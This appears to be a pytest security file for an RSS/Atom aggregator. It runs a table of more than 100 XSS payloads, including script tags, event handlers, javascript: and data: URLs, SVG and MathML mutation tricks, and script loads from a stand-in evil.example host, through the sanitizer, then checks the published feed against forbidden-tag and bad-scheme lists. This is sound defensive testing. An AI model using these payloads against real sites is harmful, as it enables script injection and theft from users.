"""Security: XSS payloads in every field a feed carries, run through the real path.

Each payload goes into a real RSS or Atom document (content, title, link and
enclosure, author, category), through `worker.parse_and_clean` (feedparser, the
tree pass, nh3) and `publish.render_topic` (feedgen), and the published Atom is
parsed back: its HTML with two parsers (libxml2 via lxml.html, and the standard
library's tokenizer), its titles, names and links as text. Hypothesis properties
check that cleaning never adds elements, attributes or links, and is idempotent.
"""

from __future__ import annotations

import html
import re
from collections import Counter
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from typing import Any
from urllib.parse import unquote, urljoin, urlsplit
from xml.sax.saxutils import escape, quoteattr

import lxml.html
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from aggregator.clean import clean_entry
from aggregator.clean.html import scrub
from aggregator.clean.sanitize import ALLOWED_TAGS, LINK_REL
from aggregator.models import CleanEntry, CleanFeed, ParsedEntry
from aggregator.urls import strip_tracking
from aggregator.worker import PlainRules, parse_and_clean
from tests.atom_schema import SCHEMA_AVAILABLE, validate_atom
from tests.invariants import publish

ATOM = "{http://www.w3.org/2005/Atom}"
FEED_URL = "https://site.example/feed.xml"
ARTICLE = "https://site.example/2025/01/post.html"
T0 = datetime(2025, 2, 24, 12, tzinfo=UTC)
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>


def escaped(value: str, times: int) -> str:
    for _ in range(times):
        value = html.escape(value, quote=False)
    return value


# --- the payload table -------------------------------------------------------------
# id: payload. Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS
# cheat sheet, and the DOMPurify/Bleach mutation-XSS reports (noscript, math, style).

PAYLOADS: dict[str, str] = {
    # <script> in every spelling
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT>alert(1)</SCRIPT>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-attributes": '<script type="text/javascript" defer async>alert(1)</script>',
    "script-slash-attribute": '<script/xss src="https://evil.example/x.js"></script>',
    "script-slash-src-unquoted": "<script/src=https://evil.example/x.js></script>",
    "script-unclosed": "<p>a</p><script>alert(1)",
    "script-end-without-gt": "<script>alert(1)</script",
    "script-end-tag-in-string": '<script>var a="</script><script>alert(1)</script>";</script>',
    "script-nested-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-double-lt": "<<script>alert(1);//<</script>",
    "script-space-before-gt": "<script >alert(1)</script >",
    "script-newline-in-tag": "<script\n>alert(1)</script\n>",
    "script-comment-body": "<script><!--alert(1)//--></script>",
    "script-in-paragraph": "<p>text<script>alert(1)</script>more</p>",
    "script-unclosed-src": '<p>a</p><script src="https://evil.example/x.js',
    "script-data-src": '<script src="data:,alert(1)"></script>',
    "script-nul-in-name": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script-in-table": "<table><tr><td>x</td><script>alert(1)</script></tr></table>",
    # event handlers on many elements
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quoted": '<img src="https://a.example/i.png" onerror="alert(1)">',
    "img-onerror-upper": "<IMG SRC=x ONERROR=alert(1)>",
    "img-onerror-slashes": '<img/src="x"/onerror=alert(1)>',
    "img-onerror-backtick": "<img src=x onerror=alert`1`>",
    "img-onerror-tabs": "<img src=x\tonerror\t=\talert(1)>",
    "img-onerror-nul": "<img src=x on\x00error=alert(1)>",
    "img-onload": '<img src="https://a.example/i.png" onload="alert(1)">',
    "body-onload": "<body onload=alert(1)>x",
    "html-onmouseover": "<html onmouseover=alert(1)><body>x</body></html>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-slash-onload": "<svg/onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
    "a-onmouseover": '<a href="https://a.example/" onmouseover="alert(1)">x</a>',
    "div-onclick": '<div onclick="alert(1)">x</div>',
    "p-onpointerenter": "<p onpointerenter=alert(1)>x</p>",
    "span-onfocus-tabindex": "<span tabindex=1 autofocus onfocus=alert(1)>x</span>",
    "custom-tag-onfocus": "<xss autofocus tabindex=1 onfocus=alert(1)>x</xss>",
    "input-onfocus-autofocus": "<input onfocus=alert(1) autofocus>",
    "select-onfocus": "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "textarea-onfocus": "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "keygen-onfocus": "<keygen autofocus onfocus=alert(1)>",
    "video-source-onerror": '<video><source onerror="alert(1)"></video>',
    "audio-onerror": "<audio src=x onerror=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "iframe-onload": "<iframe onload=alert(1)></iframe>",
    "frameset-onload": "<frameset onload=alert(1)>",
    "style-onload": "<style onload=alert(1)></style>",
    "b-onclick-slashes": "<b onclick=alert(1)//>x</b>",
    "table-onmouseover": "<table onmouseover=alert(1)><tr><td>x</td></tr></table>",
    "td-onclick-colspan": "<table><tr><td colspan=2 onclick=alert(1)>x</td></tr></table>",
    "isindex-onerror": "<isindex type=image src=1 onerror=alert(1)>",
    # javascript: URLs
    "js-href": '<a href="javascript:alert(1)">x</a>',
    "js-href-upper": '<a href="JAVASCRIPT:alert(1)">x</a>',
    "js-href-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "js-href-unquoted": "<a href=javascript:alert(1)>x</a>",
    "js-href-leading-spaces": '<a href="   javascript:alert(1)">x</a>',
    "js-href-leading-control": '<a href="\x01\x14javascript:alert(1)">x</a>',
    "js-href-leading-entity-control": '<a href="&#x01;&#14;javascript:alert(1)">x</a>',
    "js-href-tab": '<a href="java\tscript:alert(1)">x</a>',
    "js-href-newline": '<a href="java\nscript:alert(1)">x</a>',
    "js-href-carriage-return": '<a href="java\rscript:alert(1)">x</a>',
    "js-href-entity-tab": '<a href="java&#x09;script:alert(1)">x</a>',
    "js-href-entity-newline": '<a href="java&#10;script:alert(1)">x</a>',
    "js-href-entity-j": '<a href="&#106;avascript:alert(1)">x</a>',
    "js-href-all-hex-entities": (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'
    ),
    "js-href-padded-decimal": (
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
        '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'
    ),
    "js-href-named-colon": '<a href="javascript&colon;alert(1)">x</a>',
    "js-href-nul": '<a href="java\x00script:alert(1)">x</a>',
    "js-href-percent-colon": '<a href="javascript%3Aalert(1)">x</a>',
    "js-img-src": '<img src="javascript:alert(1)">',
    "js-img-lowsrc": '<img lowsrc="javascript:alert(1)" src="https://a.example/i.png">',
    "js-img-srcset": '<img src="https://a.example/i.png" srcset="javascript:alert(1) 2x">',
    "js-video-poster": '<video poster="javascript:alert(1)"></video>',
    "js-iframe-src": '<iframe src="javascript:alert(1)"></iframe>',
    "js-frame-src": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "js-area-href": "<map><area href=javascript:alert(1) shape=rect></map>",
    "js-form-action": '<form action="javascript:alert(1)"><input type=submit></form>',
    "js-button-formaction": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "js-input-formaction": '<input type="image" formaction="javascript:alert(1)" src="x">',
    "js-object-data": '<object data="javascript:alert(1)"></object>',
    "js-embed-src": '<embed src="javascript:alert(1)">',
    "js-blockquote-cite": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "js-body-background": '<body background="javascript:alert(1)">x</body>',
    "js-table-background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "js-link-href": '<link rel="stylesheet" href="javascript:alert(1)">',
    "js-base-href": '<base href="javascript:alert(1)//">',
    "js-meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "livescript-href": '<a href="livescript:alert(1)">x</a>',
    # vbscript: and data: URLs
    "vbscript-href": '<a href="vbscript:msgbox(1)">x</a>',
    "vbscript-href-upper": '<a href="VBScript:msgbox(1)">x</a>',
    "vbscript-img-src": '<img src="vbscript:msgbox(1)">',
    "data-href-html": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data-href-base64": f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
    "data-href-upper": f'<a href="DATA:text/html;base64,{B64_SCRIPT}">x</a>',
    "data-href-entity-space": '<a href="&#32;data:text/html,<script>alert(1)</script>">x</a>',
    "data-img-svg-base64": f'<img src="data:image/svg+xml;base64,{B64_SVG}">',
    "data-img-svg-plain": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "data-img-srcset": f'<img src="https://a.example/i.png" srcset="data:image/svg+xml;base64,{B64_SVG} 1x">',  # noqa: E501
    "data-video-poster": f'<video poster="data:image/svg+xml;base64,{B64_SVG}"></video>',
    "data-iframe-src": f'<iframe src="data:text/html;base64,{B64_SCRIPT}"></iframe>',
    "data-object-data": f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>',
    "data-embed-src": f'<embed src="data:image/svg+xml;base64,{B64_SVG}">',
    "data-form-action": f'<form action="data:text/html;base64,{B64_SCRIPT}"><button>x</button></form>',  # noqa: E501
    "data-button-formaction": '<form><button formaction="data:text/html,<script>alert(1)</script>">x</button></form>',  # noqa: E501
    "data-meta-refresh": f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{B64_SCRIPT}">',  # noqa: E501
    # SVG
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-script-href": '<svg><script href="data:,alert(1)"/></svg>',
    "svg-a-xlink-js": (
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'
    ),
    "svg-image-xlink-data": f'<svg><image xlink:href="data:image/svg+xml;base64,{B64_SVG}"/></svg>',
    "svg-animate-onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-animate-href-values": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text x=20 y=20>x</text></a></svg>"
    ),
    "svg-set-handler": '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "svg-use-href-data": f'<svg><use href="data:image/svg+xml;base64,{B64_SVG}#x"/></svg>',
    "svg-foreignobject-iframe": (
        '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'
        "</iframe></foreignObject></svg>"
    ),
    "svg-style-import": "<svg><style>@import url(javascript:alert(1))</style></svg>",
    "svg-p-breakout": "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    # MathML
    "math-mglyph-style-mutation": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    ),
    "math-mtext-h1-mutation": (
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="'
        '</style><img src onerror=alert(1)>"></style></h1>'
    ),
    "math-href": '<math href="javascript:alert(1)">x</math>',
    "math-maction-xlink": (
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'
    ),
    "math-annotation-xml": (
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>'
        "</annotation-xml></math>"
    ),
    "math-style": "<math><style><img src=x onerror=alert(1)></style></math>",
    # base, meta, forms, frames, plugins, imports
    "base-href": '<base href="https://evil.example/"><a href="x.js">x</a>',
    "meta-charset-utf7": '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "form-input-submit": '<form action="https://evil.example/"><input type=submit></form>',
    "input-image-js": '<input type="image" src="javascript:alert(1)">',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "iframe-https": '<iframe src="https://evil.example/"></iframe>',
    "object-param": '<object><param name="src" value="javascript:alert(1)"></object>',
    "embed-swf": '<embed src="https://evil.example/x.swf" allowscriptaccess="always">',
    "applet": '<applet code="x.class" codebase="https://evil.example/">x</applet>',
    "link-import": '<link rel="import" href="https://evil.example/x.html">',
    "portal": '<portal src="https://evil.example/"></portal>',
    "xml-import-htc": (
        '<html xmlns:xss><?import namespace="xss" implementation="https://evil.example/x.htc">'
        "<xss:xss>x</xss:xss></html>"
    ),
    # CSS
    "style-background-js": '<div style="background:url(javascript:alert(1))">x</div>',
    "style-background-image-quoted": (
        "<p style=\"background-image: url('javascript:alert(1)')\">x</p>"
    ),
    "style-expression": '<div style="width: expression(alert(1))">x</div>',
    "style-expression-comment": '<div style="width: expr/**/ession(alert(1))">x</div>',
    "style-entity-tab-url": (
        '<div style="background:url(&quot;jav&#x09;ascript:alert(1)&quot;)">x</div>'
    ),
    "style-css-escape": '<div style="background:\\75rl(javascript:alert(1))">x</div>',
    "style-moz-binding": '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>',
    "style-behavior": '<div style="behavior:url(https://evil.example/x.htc)">x</div>',
    "style-element-import": "<style>@import 'javascript:alert(1)';</style><p>x</p>",
    "style-element-moz-binding": (
        "<style>p{-moz-binding:url(https://evil.example/x.xml#xss)}</style><p>x</p>"
    ),
    "style-element-unclosed": "<p>x</p><style>p{background:url(javascript:alert(1))}",
    "style-element-then-img": "<style></style><img src=x onerror=alert(1)>",
    "style-animation-handler": (
        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>x</p>"
    ),
    # template and raw-text mutation XSS
    "template-img": "<template><img src=x onerror=alert(1)></template>",
    "template-script": "<template><script>alert(1)</script></template>",
    "noscript-title-mutation": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    ),
    "noembed-title-mutation": (
        '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'
    ),
    "noframes-title-mutation": (
        '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>'
    ),
    "xmp-title-mutation": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "iframe-title-mutation": '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "textarea-title-mutation": (
        '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'
    ),
    "title-title-mutation": '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    "plaintext": "<plaintext><script>alert(1)</script>",
    # comments, CDATA and processing instructions
    "comment-hides-img-src": '<!--<img src="--><img src=x onerror=alert(1)>-->',
    "comment-conditional": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment-abrupt-close": "<!--><img src=x onerror=alert(1)>-->",
    "comment-bang-close": "<!-- --!><img src=x onerror=alert(1)>-->",
    "cdata-script": "<![CDATA[><script>alert(1)</script>]]>",
    "cdata-img": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "pi-stylesheet": '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
    "pi-quote-trick": '<? foo="><script>alert(1)</script>">',
    "bogus-end-tag": "</x <img src=x onerror=alert(1)>>",
    # attribute-breaking quotes
    "quote-no-space": '<img src="x"onerror="alert(1)">',
    "quote-extra-double": '<a href="https://a.example/"" onclick="alert(1)">x</a>',
    "quote-single-in-double": "<img alt='\"' onerror=alert(1)//'>",
    "quote-entity-inside": '<img src="x" alt="&quot; onerror=&quot;alert(1)">',
    "quote-backtick": '<img title="`"><script>alert(1)</script>">',
    "quote-title-script": '<a href="https://a.example/" title="x\'><script>alert(1)</script>">y</a>',  # noqa: E501
    "quote-unclosed": '<img src="https://a.example/i.png" alt="x onerror=alert(1)>',
    # encoded markup (titles are plain text: decoding must not make markup)
    "encoded-script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "double-encoded-script": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "encoded-img-onerror": "&lt;img src=x onerror=alert(1)&gt;",
    "numeric-encoded-script": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "percent-encoded-script": "%3Cscript%3Ealert(1)%3C/script%3E",
    "fullwidth-brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "utf7-script": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "text-then-tag": "Breaking: <b>news</b> <img src=x onerror=alert(1)> &lt;i&gt;",
    # escaped over and over: text.plain_text decodes a bounded number of times
    **{f"escaped-{n}-times": escaped("<img src=x onerror=alert(1)>", n) for n in (7, 8, 9, 10)},
}

# --- feeds built around one payload ---------------------------------------------------

URL_ATTRIBUTES = ("href", "src", "srcset", "action", "formaction", "poster", "xlink:href")
URL_ATTRIBUTES += ("data", "background", "lowsrc", "cite", "codebase", "values", "content")


def url_of(payload: str) -> str:
    """The first URL-like attribute value in the payload (as a browser decodes it), or
    the payload itself: what a hostile feed would put in a link."""
    try:
        root = lxml.html.fragment_fromstring(payload, create_parent="div")
    except (etree.ParserError, ValueError):
        return payload
    for el in root.iter():
        for name in URL_ATTRIBUTES:
            value = el.get(name) if isinstance(el.tag, str) else None
            if value:
                return value.split("url=", 1)[-1] if name == "content" else value
    return payload


def xml_text(value: str) -> str:
    """`value` as XML character data; characters XML cannot hold become spaces."""
    return escape(re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", " ", value))


def cdata(value: str) -> str:
    value = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", " ", value)
    return "<![CDATA[" + value.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def as_xhtml(payload: str) -> str:
    """The payload as XHTML: as is when it is well-formed XML, else as libxml2 reads it."""
    div = '<div xmlns="http://www.w3.org/1999/xhtml">{}</div>'
    try:
        etree.fromstring(div.format(payload))
        return div.format(payload)
    except etree.XMLSyntaxError:
        root = lxml.html.fragment_fromstring(payload.replace("\x00", ""), create_parent="div")
        inner = "".join(etree.tostring(child, encoding="unicode") for child in root)
        return div.format(xml_text(root.text or "") + inner)


def rss_feed(
    *,
    title: str = "Story",
    link: str = ARTICLE,
    description: str = "<p>Body</p>",
    creator: str = "Ann",
    category: str = "world",
    enclosure: str = "https://site.example/a.mp3",
) -> bytes:
    item = (
        f"<item><title>{xml_text(title)}</title><link>{xml_text(link)}</link>"
        '<guid isPermaLink="false">g-1</guid><pubDate>Mon, 24 Feb 2025 12:00:00 +0000</pubDate>'
        f"<dc:creator>{xml_text(creator)}</dc:creator><category>{xml_text(category)}</category>"
        f'<enclosure url={quoteattr(xml_text(enclosure))} type="audio/mpeg" length="1"/>'
        f"<description>{cdata(description)}</description></item>"
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Site</title>'
        f"<link>https://site.example/</link><description>d</description>{item}</channel></rss>"
    ).encode()


def atom_feed(
    *,
    title: str = "Story",
    link: str = ARTICLE,
    html: str = "<p>Body</p>",
    xhtml: str | None = None,
    author: str = "Ann",
    enclosure: str = "https://site.example/a.mp3",
) -> bytes:
    content = (
        f'<content type="html">{xml_text(html)}</content>'
        if xhtml is None
        else f'<content type="xhtml">{xhtml}</content>'
    )
    entry = (
        f'<entry><id>urn:test:1</id><title type="html">{xml_text(title)}</title>'
        f'<link rel="alternate" href={quoteattr(xml_text(link))}/>'
        '<link rel="enclosure" type="audio/mpeg" length="1" '
        f"href={quoteattr(xml_text(enclosure))}/>"
        f"<updated>2025-02-24T12:00:00Z</updated><author><name>{xml_text(author)}</name></author>"
        f"{content}</entry>"
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>Site</title><id>urn:test:site</id><updated>2025-02-24T12:00:00Z</updated>"
        f"{entry}</feed>"
    ).encode()


PLACEMENTS: dict[str, Callable[[str], bytes]] = {
    "rss-description-cdata": lambda p: rss_feed(description=p),
    "atom-content-html": lambda p: atom_feed(html=p),
    "atom-content-xhtml": lambda p: atom_feed(xhtml=as_xhtml(p)),
    "rss-title": lambda p: rss_feed(title=p),
    "atom-title-html": lambda p: atom_feed(title=p),
    "rss-link-enclosure": lambda p: rss_feed(link=url_of(p), enclosure=url_of(p)),
    "atom-link-enclosure": lambda p: atom_feed(link=url_of(p), enclosure=p),
    "rss-author-category": lambda p: rss_feed(creator=p, category=p),
    "atom-author": lambda p: atom_feed(author=p),
}


# --- what a published feed must never hold ----------------------------------------

FORBIDDEN_TAGS = {"script", "style", "iframe", "object", "embed", "base", "meta", "form"}
FORBIDDEN_TAGS |= {"input", "button", "svg", "math", "link", "template", "frame", "frameset"}
FORBIDDEN_TAGS |= {"applet", "noscript", "textarea", "select", "portal", "video", "audio"}
CHECKED_URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "poster"}
CHECKED_URL_ATTRIBUTES |= {"xlink:href", "style", "data", "background", "lowsrc", "cite"}
BAD_SCHEMES = {"javascript", "vbscript", "data", "livescript"}
_IGNORED_IN_SCHEME = re.compile("[\x00-\x20\x7f-\x9f]+")  # browsers strip or skip these
# A start or end tag, or a comment: where an HTML parser would see markup (a bare `</`
# or `<?` is not markup that can run anything, and titles may keep it).
_MARKUP_IN_TEXT = re.compile(r"<(?:/?[a-zA-Z]|!-)")


def scheme_of(value: str) -> str:
    """The scheme a browser would see: entities decoded (twice, to be strict), controls
    and whitespace removed, lower-cased; '' when there is none."""
    decoded = _IGNORED_IN_SCHEME.sub("", html.unescape(html.unescape(value)))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", decoded)
    return match.group(1).lower() if match else ""


def unsafe_attribute(tag: str, name: str, value: str) -> str | None:
    """Why this attribute must not be published, or None."""
    name = name.lower()
    if name.startswith("on"):
        return "event handler"
    if name == "style":
        return "style attribute"
    if name in CHECKED_URL_ATTRIBUTES:
        candidates = value.split(",") if name == "srcset" else [value]
        for candidate in candidates:
            if scheme_of(candidate) in BAD_SCHEMES:
                return f"{scheme_of(candidate)}: URL"
    if name == "href" and tag == "a" and scheme_of(value) not in {"http", "https", "mailto"}:
        return "link that is not http(s)/mailto"
    if name == "src" and scheme_of(value) not in {"http", "https"}:
        return "source that is not http(s)"
    return None


class _Tokens(HTMLParser):
    """Start tags and attributes as the standard library's HTML tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def html_problems(fragment: str) -> list[str]:
    """Every unsafe element or attribute in an HTML fragment, read by two parsers."""
    if not fragment.strip():
        return []
    root = lxml.html.fragment_fromstring(fragment, create_parent="wrapper")
    seen = [(el.tag, list(el.attrib.items())) for el in root.iterdescendants()]
    tokens = _Tokens()
    tokens.feed(fragment)
    tokens.close()
    seen += tokens.found
    problems = []
    for tag, attributes in seen:
        if not isinstance(tag, str):
            problems.append(f"comment or processing instruction {tag!r}")
            continue
        if tag.lower() in FORBIDDEN_TAGS or tag.lower() not in ALLOWED_TAGS:
            problems.append(f"element <{tag}>")
        for name, value in attributes:
            why = unsafe_attribute(tag.lower(), str(name), str(value or ""))
            if why:
                problems.append(f"<{tag} {name}={value!r}>: {why}")
    return problems


def text_problems(what: str, value: str | None) -> list[str]:
    if value and _MARKUP_IN_TEXT.search(value):
        return [f"{what} holds markup: {value!r}"]
    return []


def link_problems(href: str | None) -> list[str]:
    parts = urlsplit(href or "")
    if parts.scheme in {"http", "https"} and parts.hostname and href == (href or "").strip():
        return []
    return [f"link is not http(s): {href!r}"]


def published_problems(data: bytes) -> Iterator[str]:
    """Everything unsafe in a published Atom document."""
    root = etree.fromstring(data)
    for element in root.iter(f"{ATOM}title", f"{ATOM}name", f"{ATOM}subtitle"):
        yield from text_problems(element.tag, element.text)
    for category in root.iter(f"{ATOM}category"):
        yield from text_problems("category", category.get("term"))
    for link in root.iter(f"{ATOM}link"):
        yield from link_problems(link.get("href"))
    for element in root.iter(f"{ATOM}content", f"{ATOM}summary"):
        if element.get("type") != "html" or len(element):
            yield f"{element.tag} is not escaped HTML"
        yield from html_problems(element.text or "")


def run(document: bytes) -> tuple[CleanFeed, bytes]:
    cleaned = parse_and_clean(document, FEED_URL, {}, PlainRules())
    return cleaned, publish(cleaned)


# --- the table, in every placement ----------------------------------------------------

CASES = [
    pytest.param(placement, payload, id=f"{placement}:{name}")
    for placement in PLACEMENTS
    for name, payload in PAYLOADS.items()
]


def test_the_table_is_large_and_distinct() -> None:
    assert len(PAYLOADS) >= 100
    assert len(set(PAYLOADS.values())) == len(PAYLOADS)


@pytest.mark.parametrize(("placement", "payload"), CASES)
def test_payload_is_harmless_when_published(placement: str, payload: str) -> None:
    cleaned, data = run(PLACEMENTS[placement](payload))
    assert len(cleaned.entries) == 1  # the entry is kept, only the attack goes
    assert list(published_problems(data)) == []
    if SCHEMA_AVAILABLE:
        assert validate_atom(data) == []


@pytest.mark.parametrize("fmt", ["rss", "atom"])
@pytest.mark.parametrize(
    "name", ["script", "img-onerror", "svg-onload", "js-href", "text-then-tag"]
)
def test_source_feed_title_is_published_as_plain_text(fmt: str, name: str) -> None:
    document = rss_feed() if fmt == "rss" else atom_feed()
    title = f"<title>{xml_text(PAYLOADS[name])}</title>".encode()
    _, data = run(document.replace(b"<title>Site</title>", title, 1))
    assert list(published_problems(data)) == []


@pytest.mark.parametrize(
    "feed_id", ["javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,<b>x</b>"]
)
def test_a_script_url_as_the_source_feed_id_is_not_republished(feed_id: str) -> None:
    document = atom_feed().replace(b"urn:test:site", xml_text(feed_id).encode(), 1)
    cleaned, data = run(document)
    assert cleaned.feed_id is None
    source_ids = etree.fromstring(data).findall(".//{http://www.w3.org/2005/Atom}source/{*}id")
    assert [i.text for i in source_ids] == [FEED_URL]  # the source's URL stands in


@pytest.mark.parametrize("times", range(12))
def test_a_title_escaped_many_times_is_plain_and_stable(times: int) -> None:
    # text.plain_text decodes at most _MAX_PASSES times; a title escaped exactly that
    # often used to come out as live markup (`<img src=x onerror=…>`), and unstable.
    title = escaped("<img src=x onerror=alert(1)>", times)
    first = clean(title=title, author=title)
    assert text_problems("title", first.title) == []
    assert text_problems("author", first.author) == []
    second = clean(title=first.title, author=first.author)
    assert (second.title, second.author) == (first.title, first.author)


# Guards the guards: a checker that accepted everything would pass every case above.
@pytest.mark.parametrize(
    ("fragment", "problem"),
    [
        ("<p>a<script>x</script></p>", "element <script>"),
        ('<img src="https://a.example/i" onerror="x">', "event handler"),
        ('<a href=" java&#x09;script:x">a</a>', "javascript: URL"),
        ('<a href="&amp;#106;avascript:x">a</a>', "javascript: URL"),
        ('<img src="data:image/png;base64,AA">', "data: URL"),
        ('<img src="https://a.example/i" srcset="x 1x, vbscript:y 2x">', "vbscript: URL"),
        ('<p style="color:red">a</p>', "style attribute"),
        ("<svg><a>x</a></svg>", "element <svg>"),
        ("<!-- c --><p>a</p>", "comment"),
    ],
)
def test_the_html_checker_finds_problems(fragment: str, problem: str) -> None:
    assert any(problem in found for found in html_problems(fragment)), html_problems(fragment)


@pytest.mark.parametrize(
    ("value", "expected"),
    [("<b>", 1), ("a < b", 0), ("</x", 1), ("<!--", 1), ("&lt;b&gt;", 0), ("x<1", 0), ("</", 0)],
)
def test_the_text_checker_finds_markup(value: str, expected: int) -> None:
    assert len(text_problems("title", value)) == expected


@pytest.mark.parametrize(
    "href",
    ["javascript:alert(1)", "data:,x", " https://a.example/", "//a.example/", "https:///x"],
)
def test_the_link_checker_refuses_non_http_links(href: str) -> None:
    assert link_problems(href) != []


# --- properties ---------------------------------------------------------------------
# test_clean covers "no more elements than the input" and idempotency on generated
# fragments; these compare multisets (tags, attributes, URLs) and add the payload
# table, random tag and attribute names, and the author field.

BASE = ARTICLE
TAG_NAMES = st.one_of(
    st.sampled_from(sorted(ALLOWED_TAGS)),
    st.sampled_from(sorted(FORBIDDEN_TAGS | {"section", "font", "center", "details", "xss"})),
    st.from_regex(r"[a-z][a-z0-9]{0,6}", fullmatch=True),
)
ATTRIBUTE_NAMES = st.one_of(
    st.sampled_from(["href", "src", "title", "alt", "width", "colspan", "rel", "style"]),
    st.sampled_from(["onclick", "onerror", "srcset", "formaction", "xlink:href", "class"]),
    st.from_regex(r"[a-z][a-z0-9-]{0,6}", fullmatch=True),
)
ATTRIBUTE_VALUES = st.one_of(
    st.sampled_from(
        [
            "https://a.example/p?utm_source=x&id=1",
            "http://b.example/i.png",
            "/rel/path",
            "rel.html",
            "#frag",
            "//cdn.example/i.png",
            "mailto:a@b.example",
            "javascript:alert(1)",
            "java&#x09;script:alert(1)",
            "data:text/html,x",
            "2",
            "t",
        ]
    ),
    st.sampled_from(sorted(PAYLOADS)).map(lambda name: url_of(PAYLOADS[name])),
    st.text(st.characters(codec="ascii", exclude_characters="\"'&<>"), max_size=8),
)
ATTRIBUTE = st.builds(lambda n, v: f' {n}="{v}"', ATTRIBUTE_NAMES, ATTRIBUTE_VALUES)
WORDS = st.sampled_from(["word", "a&amp;b", "&lt;x&gt;", "é", " ", "x<y", "1", "Sponsor"])
REAL = st.sampled_from(
    [
        '<p>See <a href="https://a.example/r?utm_source=rss&amp;x=1">the report</a>.</p>',
        '<figure><img src="/img/a.png" alt="A" width="300"><figcaption>A</figcaption></figure>',
        "<ul><li>one</li><li>two <em>2</em></li></ul>",
        "<table><tr><th>h</th></tr><tr><td colspan=2>c</td></tr></table>",
        "<blockquote><p>quoted</p></blockquote><pre>code\n  x</pre>",
        '<p><abbr title="HyperText">HTML</abbr> and <code>x &lt; y</code></p>',
    ]
)
PAYLOAD = st.sampled_from(sorted(PAYLOADS)).map(PAYLOADS.__getitem__)


